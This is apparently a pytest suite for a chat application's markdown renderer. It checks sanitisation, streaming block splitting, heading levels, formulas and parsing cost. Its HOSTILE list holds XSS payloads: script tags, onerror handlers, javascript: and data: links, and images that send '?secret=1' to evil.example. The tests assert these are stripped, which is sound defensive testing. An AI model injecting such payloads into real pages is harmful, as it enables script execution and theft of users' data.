"""Markdown: what is let through, how it is cut into blocks, how much work that is."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat.markdown import Block, BlockSplitter, render, syntax

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=https://evil.example></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [y](file:///etc/passwd)",
    "[x](//evil.example) [y](/accounts/logout/)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?secret=1)",
    "![x][r]\n\n[r]: https://evil.example/?secret=1",
    '![x](https://evil.example "onload=alert(1)")',
    '![" onerror="alert(1)](https://evil.example/a.png)',
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "```python\n</span><img src=x onerror=alert(1)>\n```",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|c|",
    '<div style="background:url(https://evil.example)">x</div>',
    "`</code><script>alert(1)</script>`",
    "$<script>alert(1)</script>$",
    '<ul class="continued"><li onclick=alert(1)>x',
]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def _collect(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    return collector


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_in_markdown_runs_or_makes_the_browser_ask_a_foreign_host(markdown: str) -> None:
    page = _collect(render(markdown))
    is_formula = markdown.startswith("$")
    assert is_formula or "math" not in page.tags
    assert not page.tags & {"script", "img", "svg", "iframe", "style", "object", "input"}
    assert {name for name, _ in page.attributes if not is_formula} <= {
        *("href", "title", "target", "rel", "class", "dir", "start", "type", "tabindex"),
        "data-key",
    }


@pytest.mark.parametrize("markdown", HOSTILE)
def test_a_link_goes_to_http_https_or_mailto_only(markdown: str) -> None:
    links = [value for name, value in _collect(render(markdown)).attributes if name == "href"]
    assert all(re.match(r"(https?://|mailto:)", link) for link in links)


def test_a_link_opens_elsewhere_and_tells_nothing() -> None:
    attributes = _collect(render("[x](https://example.org)")).attributes
    assert ("target", "_blank") in attributes
    assert ("rel", "noopener noreferrer nofollow") in attributes


def test_an_image_becomes_a_link_that_a_person_may_follow() -> None:
    assert '<a class="image-link" href="https://e.example/x.png"' in render(
        "![chart](https://e.example/x.png)"
    )


def test_invalid_text_is_rendered_without_nul() -> None:
    html = render("a\x00b \u202etxt")
    assert "\x00" not in html
    assert "a\ufffdb" in html


def test_code_is_highlighted_by_class_and_never_by_style() -> None:
    html = render("```python\nx = 1\n```")
    assert '<span class="n">x</span>' in html
    assert "style" not in html


def test_code_in_an_unknown_language_is_plain() -> None:
    assert "<code>a &lt; b\n</code>" in render("```nosuch\na < b\n```")


@pytest.mark.parametrize(
    ("markdown", "levels"),
    [("# A", "3"), ("## A\n\n### B\n\n## C", "343"), ("### A\n\n###### B\n\n# C", "343")],
)
def test_headings_begin_below_those_of_the_page_and_leave_no_level_out(
    markdown: str, levels: str
) -> None:
    assert "".join(re.findall(r"<h(\d)", render(markdown))) == levels


def test_an_empty_header_cell_is_a_cell() -> None:
    assert render("| |b|\n|-|-|\n|c|d|").count("<th>") == 1


@pytest.mark.parametrize(
    "formula", ["$a_1 * b * c$", "$$a *b* c$$", r"\(x_1 *y* z\)", r"\[a\\b *c* d\]"]
)
def test_nothing_within_a_formula_is_markup(formula: str) -> None:
    html = render(formula)
    assert "<em>" not in html
    assert "<math alttext=" in html


def test_two_prices_are_not_a_formula() -> None:
    assert "<em>" in render("It costs $5, *not* $6.")


@pytest.mark.parametrize(
    "markdown",
    ["**三张表。**其中", "是**“引号”**的", "这**「重点」**是", "**bold** text"],
)
def test_emphasis_needs_no_spaces_between_chinese_characters(markdown: str) -> None:
    assert "<strong>" in render(markdown)


def test_stars_of_a_product_are_no_emphasis() -> None:
    assert "<em>" not in render("2 * 3 * 4 and snake_case_name")


LINES = [
    *("text", "more *text*", "- item", "  within", "1. one", "2. two", "   within", "  - nested"),
    *("```", "```python", "~~~", "    code", "> quote", "# head", "---", "| a | b |", "|---|---|"),
    *("", "", "", "`code` 汉字 😀", "\ttab"),
    *("$$", r"\[", r"\]", "+ c", "$x$", "[^1]: note", "see[^1]", "> [!NOTE]", "- [ ] task"),
]
TEXTS = st.lists(st.sampled_from(LINES), max_size=12).map("\n".join)


def _blocks(*deltas: str) -> list[Block]:
    splitter = BlockSplitter()
    blocks = [block for delta in deltas for block in splitter.feed(delta)]
    return blocks + splitter.finish()


def _without_paragraphs(html: str) -> str:
    """A list is loose or tight as a whole; item by item that cannot be known."""
    return re.sub(r'</?p( dir="auto")?>|\s', "", html)


@given(TEXTS, st.lists(st.integers(1, 9), min_size=1))
def test_blocks_do_not_depend_on_how_the_text_was_cut(text: str, sizes: list[int]) -> None:
    deltas: list[str] = []
    position = 0
    while position < len(text):
        size = sizes[len(deltas) % len(sizes)]
        deltas.append(text[position : position + size])
        position += size
    assert _blocks(*deltas) == _blocks(text)


@given(TEXTS)
def test_blocks_cover_the_text_in_code_units_without_gaps(text: str) -> None:
    blocks = _blocks(text)
    ends = [block.end for block in blocks]
    assert [block.start for block in blocks] == [0, *ends][: len(blocks)]
    assert [block.index for block in blocks] == list(range(len(blocks)))
    assert text.encode("utf-16-le")[2 * max([0, *ends]) :].decode("utf-16-le").strip() == ""


@given(TEXTS)
def test_blocks_together_look_like_the_text_parsed_at_once(text: str) -> None:
    whole = syntax.to_html(text, {})
    assert _without_paragraphs(render(text)) == _without_paragraphs(whole)


def test_a_paragraph_is_final_at_the_blank_line() -> None:
    splitter = BlockSplitter()
    assert splitter.feed("one\n") == []
    assert splitter.feed("\ntwo")[0].html == '<p dir="auto">one</p>\n'


def test_a_code_block_is_final_at_its_closing_fence() -> None:
    splitter = BlockSplitter()
    assert splitter.feed("```\n\na\n\n- b\n") == []
    assert len(splitter.feed("```\n")) == 1


def test_a_list_arrives_item_by_item_and_is_one_list_in_the_end() -> None:
    first, second = _blocks("- a\n- b\n")
    assert first.html == '<ul dir="auto">\n<li>a</li>\n</ul>\n'
    assert second.html == '<ul class="continued">\n<li>b</li>\n</ul>\n'
    assert render("- a\n- b\n").count("<ul") == 1


def test_a_list_or_table_has_one_direction_that_its_text_decides() -> None:
    html = render("- سطر\n\n  فقرة\n\n| ا |\n|---|\n| ب |\n")
    assert html.count("dir=") == 2
    assert '<ul dir="auto">' in html
    assert '<table dir="auto">' in html


def test_a_link_definition_counts_for_what_follows() -> None:
    assert "https://example.org" in render("[a]: https://example.org\n\n[a]\n")


@pytest.mark.parametrize(
    "text",
    [
        "x" * 1_000_000,
        "```python\n" + "x = 1\n" * 20_000,
        "word *b* [a](http://x)\n\n" * 2_000,
        "- item\n" * 5_000,
        "> quote\n" * 5_000,
        "[" * 50_000,
    ],
    ids=["line", "code", "paragraphs", "list", "quote", "brackets"],
)
def test_every_character_is_parsed_once(text: str) -> None:
    parsed: list[int] = []

    def counted(markdown: str, env: dict[str, object]) -> str:
        parsed.append(len(markdown))
        return ""

    splitter = BlockSplitter(counted)
    for position in range(0, len(text), 40):
        splitter.feed(text[position : position + 40])
    splitter.finish()
    assert sum(parsed) == len(text)


def test_a_huge_line_is_shown_plain() -> None:
    assert render("<" * 300_000).startswith('<p class="plain" dir="auto">&lt;')


def test_huge_code_is_not_highlighted() -> None:
    assert "<span class=" not in render("```python\n" + "x = 1\n" * 50_000 + "```")
